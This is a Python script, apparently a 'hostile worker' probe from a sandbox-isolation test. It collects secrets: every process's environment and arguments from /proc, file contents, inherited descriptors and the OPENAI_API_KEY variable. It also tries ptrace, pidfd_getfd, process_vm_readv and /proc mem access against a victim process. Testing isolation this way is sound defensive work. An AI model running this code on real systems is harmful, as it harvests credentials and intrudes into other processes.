"""A hostile worker: it looks for secrets in other processes and in files, and prints its findings as JSON.

It is run as a script, with the standard library alone. Its arguments are the PID of the victim (0: its parent) and the
folders to read.
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import stat
import sys
from pathlib import Path

_LARGEST = 1 << 22
_PIDFD_OPEN, _PIDFD_GETFD = 434, 438
_PTRACE_ATTACH, _PTRACE_SEIZE = 16, 0x4206


def _read(file):
    try:
        with Path(file).open("rb", buffering=0) as opened:
            return opened.read(_LARGEST)
    except OSError:
        return b""


def environments_and_arguments():
    """Everything that /proc shows of the environment and the arguments of all processes."""
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        found += [_read(process / "cmdline"), _read(process / "environ")]
    return b"\n".join(found)


def files(folders):
    """The content of all files below these folders, and of those that anybody may read among temporary files."""
    found = []
    for folder in folders:
        for at, _, names in os.walk(folder, onerror=lambda _: None):
            for name in names:
                file = Path(at, name)
                try:
                    if stat.S_ISREG(file.stat().st_mode):
                        found.append(_read(file))
                except OSError:
                    pass
    return b"\n".join(found)


def descriptors():
    """The targets of the descriptors that this process has inherited, but for its standard ones."""
    targets = []
    for descriptor in Path("/proc/self/fd").iterdir():
        try:
            target = descriptor.readlink()
        except FileNotFoundError:  # that of the list itself
            continue
        if int(descriptor.name) > 2:
            targets.append(str(target))
    return targets


def ways_into(pid):
    """Try each way to the memory, the environment and the descriptors of a process; return those that succeed."""
    victim = Path(f"/proc/{pid}")
    ways = [victim / name for name in ("environ", "mem", "maps", "smaps", "auxv", "pagemap", "io")]
    ways += [task / "mem" for task in (victim / "task").iterdir()]
    opened = []
    for way in ways:
        try:
            with way.open("rb", buffering=0) as file:
                if way.name != "mem":
                    file.read(1)
        except OSError:
            continue
        opened.append(str(way))
    for way in ("exe", "cwd", "root", "ns/net", "fd/0", "fd/1", "fd/2", *(f"fd/{number}" for number in range(3, 64))):
        try:
            (victim / way).readlink()
        except OSError:
            continue
        opened.append(way)
    return opened + _by_system_calls(pid)


def _by_system_calls(pid):
    library = ctypes.CDLL(None, use_errno=True)
    library.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    opened = []
    for name, request in (("attach", _PTRACE_ATTACH), ("seize", _PTRACE_SEIZE)):
        if library.ptrace(request, pid, None, None) == 0:
            opened.append(name)
            os.waitpid(pid, 0x40000000) if request == _PTRACE_ATTACH else None
            library.ptrace(17, pid, None, None)
    pidfd = library.syscall(_PIDFD_OPEN, pid, 0)
    opened += [f"pidfd_getfd {number}" for number in range(32) if library.syscall(_PIDFD_GETFD, pidfd, number, 0) >= 0]
    buffer = ctypes.create_string_buffer(1)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 1)
    there = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 1)
    library.process_vm_readv(pid, here, 1, there, 1, 0)
    if ctypes.get_errno() not in {1, 3}:  # EPERM; a bad address would be EFAULT
        opened.append("process_vm_readv")
    return opened


def main():
    """Look everywhere, and print the findings."""
    victim = int(sys.argv[1]) or os.getppid()
    found = {
        "processes": environments_and_arguments().decode("latin-1"),
        "files": files(sys.argv[2:]).decode("latin-1"),
        "descriptors": descriptors(),
        "victim": Path(f"/proc/{victim}/cmdline").read_bytes().decode(),
        "ways": ways_into(victim),
        "interfaces": [name for _, name in socket.if_nameindex()],
        "placeholder": os.environ.get("OPENAI_API_KEY"),
    }
    json.dump(found, sys.stdout)


if __name__ == "__main__":
    main()
